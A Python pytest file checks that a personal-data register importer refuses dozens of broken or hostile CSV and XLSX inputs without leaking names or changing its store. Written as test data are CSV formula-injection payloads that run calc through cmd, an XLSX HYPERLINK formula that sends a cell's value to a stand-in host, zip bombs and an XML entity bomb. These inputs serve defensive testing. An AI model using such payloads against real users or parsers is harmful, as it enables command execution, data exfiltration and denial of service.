"""Every broken file: a sentence with file, row and field, no value, and the store as it was."""

import codecs
import datetime as dt
import os
import struct
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tacit.linkage.errors import Code, TacitError
from tacit.node.home import Home
from tacit.node.mapping import ColumnMapping
from tacit.node.register.importing import import_register
from tacit.node.roles import RegisterFields
from tacit.node.sources.opening import open_source
from tacit.node.sources.problems import InputRefused
from tacit.node.store.base import Store, create_store

NOW = dt.datetime(2026, 11, 22, 8, 0, tzinfo=dt.UTC)
FIELDS = RegisterFields(("name", "birth_date"), frozenset({"birth_date"}))
COLUMNS = {
    "id": "record_id",
    "성명": "name",
    "생년월일": "birth_date",
    "기록일": "documented_on",
    "공개": "publication",
    "목적": "purposes",
    "동의만료": "consent_expires",
}
MAPPING = ColumnMapping(columns=COLUMNS)
HEADER = ",".join(COLUMNS)
NAME = "홍길동비밀"
BORN = "1931-05-17"
GOOD = f"r1,{NAME},{BORN},2020-01-02,allowed,check,2030-01-01"

Dump = Callable[[Store], dict[str, list[tuple[object, ...]]]]


@dataclass(frozen=True)
class Broken:
    """A broken file and what must be said of it."""

    make: Callable[[Path], None]
    says: str
    row: int | None = None
    field: str | None = None
    name: str = "broken.csv"
    code: Code = Code.BAD_INPUT
    opening: dict[str, str] | None = None


def text(*lines: str, encoding: str = "utf-8", header: str = HEADER) -> Callable[[Path], None]:
    content = "\r\n".join((header, *lines)) + "\r\n"
    return raw(content.encode(encoding))


def raw(content: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(content)

    return make


def row(**changes: str) -> str:
    values = dict(zip(COLUMNS, GOOD.split(","), strict=True))
    return ",".join((values | changes).values())


def huge(start: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        with path.open("wb") as file:
            file.write(HEADER.encode() + b"\n" + start)
            file.truncate(1 << 30)

    return make


def workbook(
    *rows: list[Any], change: Callable[[openpyxl.Workbook], None] | None = None
) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        for values in (list(COLUMNS), *rows):
            sheet.append(values)
        if change is not None:
            change(book)
        book.save(path)

    return make


def merge(book: openpyxl.Workbook) -> None:
    book.worksheets[0].merge_cells("B2:B3")


def hide(book: openpyxl.Workbook) -> None:
    book.create_sheet("empty")
    book.worksheets[0].sheet_state = "hidden"


def repacked(
    change: Callable[[str, bytes], bytes | None], *, compress: int = zipfile.ZIP_DEFLATED
) -> Callable[[Path], None]:
    """A workbook with one part changed."""

    def make(path: Path) -> None:
        workbook(GOOD.split(","))(path)
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        with zipfile.ZipFile(path, "w", compress) as archive:
            for name, content in parts.items():
                changed = change(name, content)
                if changed is not None:
                    archive.writestr(name, changed)

    return make


SHEET = "xl/worksheets/sheet1.xml"


def in_sheet(old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
    return lambda name, content: content.replace(old, new, 1) if name == SHEET else content


def declared_size(size: int) -> Callable[[Path], None]:
    """A workbook whose table of contents declares another size for the sheet."""

    def make(path: Path) -> None:
        workbook(GOOD.split(","))(path)
        content = bytearray(path.read_bytes())
        place = content.rfind(SHEET.encode()) - 46
        assert content[place : place + 4] == b"PK\x01\x02"
        content[place + 24 : place + 28] = struct.pack("<I", size)
        path.write_bytes(content)

    return make


def truncated(path: Path) -> None:
    workbook(GOOD.split(","))(path)
    content = path.read_bytes()
    path.write_bytes(content[: len(content) * 2 // 3])


def plain_zip(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("names.txt", NAME)


def overwritten(path: Path) -> None:
    workbook(GOOD.split(","))(path)
    content = bytearray(path.read_bytes())
    middle = len(content) // 4
    content[middle : middle + 200] = bytes(200)
    path.write_bytes(content)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCTYPE = (
    b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><s>&b;</s>'
)
MIXED = (HEADER + "\n" + GOOD + "\n").encode() + (row(id="r2") + "\n").encode("cp949")
SURROGATE = (HEADER + "\n" + GOOD + "\nr2,").encode() + b"\xed\xa0\x80" + b",,,,,\n"

BROKEN: dict[str, Broken] = {
    "empty": Broken(raw(b""), "empty"),
    "byte order mark only": Broken(raw(codecs.BOM_UTF8), "no text"),
    "utf-16 byte order mark only": Broken(raw(codecs.BOM_UTF16_LE), "no text"),
    "blank lines only": Broken(raw(b"\n\n\n"), "no text"),
    "header only": Broken(text(), "no records"),
    "only delimiters": Broken(raw(b",,,,\n,,,,\n"), "no column name", 1),
    "random bytes": Broken(raw(bytes(range(1, 256)) * 40), "neither UTF-8 nor CP949", 2),
    "png renamed": Broken(raw(b"\x89PNG\r\n\x1a\n" + bytes(64)), "a PNG image"),
    "pdf renamed": Broken(raw(b"%PDF-1.7\n1 0 obj"), "a PDF document"),
    "gzip renamed": Broken(raw(b"\x1f\x8b\x08\x00" + bytes(20)), "a gzip archive"),
    "zip renamed": Broken(plain_zip, "not an Excel workbook"),
    "wrong encoding declared": Broken(
        text(GOOD, encoding="cp949"), "not UTF-8", 1, opening={"encoding": "utf-8"}
    ),
    "other wrong encoding declared": Broken(
        text(GOOD, row(id="r2", 성명="한\U0001f600")),
        "not CP949",
        1,
        opening={"encoding": "cp949"},
    ),
    "unknown encoding declared": Broken(
        text(GOOD), "must be one of", code=Code.USAGE, opening={"encoding": "ebcdic"}
    ),
    "unknown delimiter declared": Broken(
        text(GOOD), "must be one of", code=Code.USAGE, opening={"delimiter": "%"}
    ),
    "mixed encodings": Broken(raw(MIXED), "neither UTF-8 nor CP949", 3),
    "lone surrogate": Broken(raw(SURROGATE), "neither UTF-8 nor CP949", 3),
    "invalid utf-8 in the middle": Broken(
        raw(f"{HEADER}\n{GOOD}\nr2,{NAME}".encode() + b"\xff,,,,,\n"), "neither", 3
    ),
    "cut off inside a character": Broken(
        raw(f"{HEADER}\n{GOOD}\nr2,{NAME}".encode()[:-1]), "neither UTF-8 nor CP949", 3
    ),
    "utf-16 without mark": Broken(raw(f"{HEADER}\n{GOOD}".encode("utf-16-le")), "NUL bytes", 1),
    "utf-32": Broken(raw(f"{HEADER}\n{GOOD}".encode("utf-32")), "UTF-32"),
    "nul byte": Broken(text(GOOD, row(id="r\0002")), "NUL", 3),
    "escape characters": Broken(text(GOOD, row(id="r\x1b2")), "control characters", 3, "column 1"),
    "ragged, too few": Broken(text(GOOD, f"r2,{NAME}"), "2 values", 3),
    "ragged, too many": Broken(text(GOOD, GOOD + ",x"), "8 values", 3),
    "duplicated ids": Broken(text(GOOD, row(id="r2"), GOOD), "row 2 has the same", 4, "record_id"),
    "no id": Broken(text(GOOD, row(id="  ")), "no identifier", 3, "record_id"),
    "over-long id": Broken(text(row(id="r" * 201)), "200 characters", 2, "record_id"),
    "missing column": Broken(
        text("r1,x", header="id,생년월일"), "has no column '성명'", code=Code.BAD_MAPPING
    ),
    "duplicate columns": Broken(
        text(GOOD, header=HEADER.replace("생년월일", "성명")), "same name as column 2", 1, "column 3"
    ),
    "unnamed column": Broken(
        text(GOOD, header=HEADER.replace("생년월일", "")), "without a name", 1, "column 3"
    ),
    "no header but a long text": Broken(text(header=NAME * 50 + ",x"), "column names", 1, "column 1"),
    "too many columns": Broken(
        text(header=",".join(f"c{i}" for i in range(1001))), "more than 1000", 1
    ),
    "one line of a gigabyte of letters": Broken(huge(b"x" * (2 << 20)), "longer than", 2),
    "one line of a gigabyte of nothing": Broken(huge(b""), "NUL bytes", 2),
    "over-long value": Broken(
        text(GOOD, row(id="r2", 성명=NAME * 14_000)), "65,536 characters", 3, "column 2"
    ),
    "value beyond the parser's limit": Broken(
        text(GOOD, row(id="r2", 성명=NAME * 28_000)), "value is longer", 3
    ),
    "unclosed quote": Broken(text(GOOD, f'r2,"{NAME},x'), "never closed", 3),
    "unclosed quote in a long file": Broken(
        text(GOOD, f'r2,"{NAME},x', *[GOOD] * 15_000), "closed", 3
    ),
    "text after a quote": Broken(text(GOOD, f'r2,"{NAME}"x,,,,,'), "closing quote", 3),
    "13th month in a date of birth": Broken(
        text(GOOD, row(id="r2", 생년월일="1931-13-05")), "no such month", 3, "birth_date"
    ),
    "30 February in a date of birth": Broken(
        text(GOOD, row(id="r2", 생년월일="1931년 2월 30일")), "does not have", 3, "birth_date"
    ),
    "13th month documented": Broken(
        text(GOOD, row(id="r2", 기록일="2020-13-01")), "no such month", 3, "documented_on"
    ),
    "30 February documented": Broken(
        text(GOOD, row(id="r2", 기록일="2020.02.30")), "does not have", 3, "documented_on"
    ),
    "documented in the future": Broken(
        text(GOOD, row(id="r2", 기록일="2026-11-23")), "in the future", 3, "documented_on"
    ),
    "documented on no date": Broken(
        text(GOOD, row(id="r2", 기록일="작년")), "not a full date", 3, "documented_on"
    ),
    "expiry on no date": Broken(
        text(GOOD, row(id="r2", 동의만료="2030-06-31")), "does not have", 3, "consent_expires"
    ),
    "unknown publication": Broken(
        text(GOOD, row(id="r2", 공개="예")), "neither allowed nor objected", 3, "publication"
    ),
    "unknown purpose": Broken(
        text(GOOD, row(id="r2", 목적="check; sell")), "unknown purpose", 3, "purposes"
    ),
    "formula in csv": Broken(
        text(GOOD, row(id="r2", 성명="=cmd|' /C calc'!A0")), "formula", 3, "name"
    ),
    "at sign formula in csv": Broken(
        text(GOOD, row(id="r2", 성명="@SUM(1+1)*cmd")), "formula", 3, "name"
    ),
    "signed formula in csv": Broken(
        text(GOOD, row(id="+cmd|' /C calc'!A0")), "formula", 3, "record_id"
    ),
    "formula in xlsx": Broken(
        workbook(GOOD.split(","), ["r2", '=HYPERLINK("http://x/?"&A1)', *GOOD.split(",")[2:]]),
        "holds a formula",
        3,
        "name",
        "broken.xlsx",
    ),
    "error value in xlsx": Broken(
        workbook(GOOD.split(","), ["r2", "#N/A", *GOOD.split(",")[2:]]),
        "error value",
        3,
        "name",
        "broken.xlsx",
    ),
    "merged cells": Broken(
        workbook(GOOD.split(","), ["r2", *[None] * 6], change=merge),
        "merged",
        2,
        name="broken.xlsx",
    ),
    "values beyond the header": Broken(
        workbook(GOOD.split(","), [*GOOD.split(","), NAME]), "beyond the 7", 3, name="broken.xlsx"
    ),
    "only hidden sheets hold values": Broken(
        workbook(GOOD.split(","), change=hide), "no visible sheet", name="broken.xlsx"
    ),
    "no such sheet": Broken(
        workbook(GOOD.split(",")),
        "sheet",
        name="broken.xlsx",
        code=Code.NOT_FOUND,
        opening={"sheet": "명부"},
    ),
    "xlsx that is a plain zip": Broken(plain_zip, "not an Excel workbook", name="broken.xlsx"),
    "xlsx that is text": Broken(text(GOOD), "damaged or cut off", name="broken.xlsx"),
    "truncated xlsx": Broken(truncated, "damaged or cut off", name="broken.xlsx"),
    "overwritten xlsx": Broken(overwritten, "damaged", name="broken.xlsx"),
    "encrypted xlsx": Broken(
        raw(OLE + bytes(2000) + "EncryptedPackage".encode("utf-16-le") + bytes(500)),
        "encrypted",
        name="broken.xlsx",
    ),
    "old xls": Broken(raw(OLE + bytes(2000)), ".xls", name="broken.xls"),
    "opendocument": Broken(
        repacked(lambda name, c: c if "sheet" in name else None),
        "not an Excel workbook",
        name="broken.xlsx",
    ),
    "zip bomb": Broken(
        repacked(lambda name, c: b" " * (40 << 20) if name == SHEET else c),
        "zip bomb",
        name="broken.xlsx",
    ),
    "zip bomb that declares gigabytes": Broken(
        declared_size(3 << 30), "more than 1 GiB", name="broken.xlsx"
    ),
    "zip bomb that declares little": Broken(
        declared_size(64), "damaged", name="broken.xlsx"
    ),
    "entity bomb": Broken(
        repacked(lambda name, c: DOCTYPE if name == "xl/styles.xml" else c),
        "document type",
        name="broken.xlsx",
    ),
    "a million empty columns": Broken(
        repacked(in_sheet(b"</row>", b"<c/>" * 1_000_000 + b"</row>")),
        "16,384 columns",
        1,
        name="broken.xlsx",
    ),
    "a cell in column one million": Broken(
        repacked(in_sheet(b"</row>", b'<c r="BDWGN1"/></row>')),
        "16,384 columns",
        1,
        name="broken.xlsx",
    ),
    "row number beyond all sheets": Broken(
        repacked(in_sheet(b'<row r="2"', b'<row r="99999999"')), "no row can have", name="broken.xlsx"
    ),
    "sheet that is not xml": Broken(
        repacked(in_sheet(b"</row>", b"<row>")), "not XML", name="broken.xlsx"
    ),
    "lost styles": Broken(
        repacked(lambda name, c: None if name == "xl/_rels/workbook.xml.rels" else c),
        "damaged",
        name="broken.xlsx",
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def held(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A store that holds a register; every refused file must leave it as it is."""
    folder = tmp_path_factory.mktemp("held")
    good = folder / "good.csv"
    text(GOOD, row(id="r7"), row(id="r8"))(good)
    with create_store(Home(folder / "node"), "correct horse", 14) as store:
        import_register(store, open_source(good), MAPPING, FIELDS, NOW)
        yield store


def refusal(store: Store, path: Path, opening: dict[str, str] | None = None) -> TacitError:
    with pytest.raises(TacitError) as caught:
        import_register(store, open_source(path, **(opening or {})), MAPPING, FIELDS, NOW)
    return caught.value


def shown(error: TacitError) -> str:
    """Everything that a person or a log may see of an error."""
    problems = error.problems if isinstance(error, InputRefused) else ()
    parts = [str(error), error.sentence("ko"), repr(error), error.detail, repr(error.params)]
    return "\n".join(parts + [f"{problem} {problem!r}" for problem in problems])


@pytest.mark.parametrize("case", BROKEN.values(), ids=BROKEN.keys())
def test_broken_file_is_refused(
    case: Broken, held: Store, everything: Dump, tmp_path: Path
) -> None:
    path = tmp_path / case.name
    case.make(path)
    before = everything(held)

    error = refusal(held, path, case.opening)

    assert error.code is case.code
    assert error.entry.exit_code == {Code.NOT_FOUND: 4, Code.USAGE: 2}.get(case.code, 3)
    assert case.says in str(error)
    assert NAME not in shown(error)
    assert BORN not in shown(error)
    if case.code is Code.BAD_INPUT:
        assert isinstance(error, InputRefused)
        first = error.problems[0]
        assert first.file == case.name
        assert case.name in str(error)
        assert (first.row, first.field is None) == (case.row, case.field is None)
        assert case.field is None or case.field in (first.field or "")
    assert everything(held) == before


def test_more_than_thirty_kinds_are_tried() -> None:
    assert len(BROKEN) > 60


def test_gigabyte_line_takes_little_memory(held: Store, tmp_path: Path) -> None:
    path = tmp_path / "line.csv"
    huge(b"x" * (2 << 20))(path)
    tracemalloc.start()
    refusal(held, path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 32 << 20


def test_zip_bomb_takes_little_memory(held: Store, tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    repacked(in_sheet(b"</row>", b"<c/>" * 5_000_000 + b"</row>"))(path)
    tracemalloc.start()
    refusal(held, path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 32 << 20


def test_missing_file(held: Store, tmp_path: Path) -> None:
    assert str(refusal(held, tmp_path / "no.csv")) == "no.csv: there is no such file"


def test_directory(held: Store, tmp_path: Path) -> None:
    assert "directory" in str(refusal(held, tmp_path))


def test_name_with_nul(held: Store, tmp_path: Path) -> None:
    assert "cannot be used" in str(refusal(held, tmp_path / "a\0b.csv"))


@pytest.mark.skipif(os.name != "posix", reason="named pipes are POSIX")
def test_named_pipe_does_not_hang(held: Store, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.csv")
    assert "not a regular file" in str(refusal(held, tmp_path / "pipe.csv"))


def test_no_permission(held: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "closed.csv"
    text(GOOD)(path)

    def denied(*_: object, **__: object) -> None:
        # Root, as whom containers run tests, is refused nothing.
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(Path, "open", denied)
    assert str(refusal(held, path)) == "closed.csv: there is no permission to read it"


def test_larger_than_any_register(held: Store, tmp_path: Path) -> None:
    path = tmp_path / "large.csv"
    with path.open("wb") as file:
        file.truncate((2 << 30) + 1)
    assert "larger than 2 GiB" in str(refusal(held, path))


def test_all_problems_are_reported(held: Store, tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    text(row(id="a", 기록일="2020-13-01", 공개="예"), "b,c", row(id="a2"), row(id="a2", 목적="x"))(
        path
    )
    error = refusal(held, path)
    assert isinstance(error, InputRefused)
    assert [(p.row, p.field) for p in error.problems] == [
        (2, "field 'documented_on'"),
        (2, "field 'publication'"),
        (3, None),
        (5, "field 'purposes'"),
    ]
    assert str(error).endswith("(3 more)")


def test_problems_beyond_the_limit_are_counted(held: Store, tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    text(*(f"x{i}" for i in range(250)))(path)
    error = refusal(held, path)
    assert isinstance(error, InputRefused)
    assert (len(error.problems), error.more) == (100, 150)
    assert str(error).endswith("(249 more)")


def test_file_that_changes_while_it_is_read(held: Store, tmp_path: Path, everything: Dump) -> None:
    path = tmp_path / "changing.csv"
    text(GOOD)(path)
    source = open_source(path)
    path.write_bytes(f"{HEADER}\n".encode() + b"\xff\xfe\xff\n")
    before = everything(held)
    with pytest.raises(InputRefused, match="changed while it was read"):
        import_register(held, source, MAPPING, FIELDS, NOW)
    assert everything(held) == before
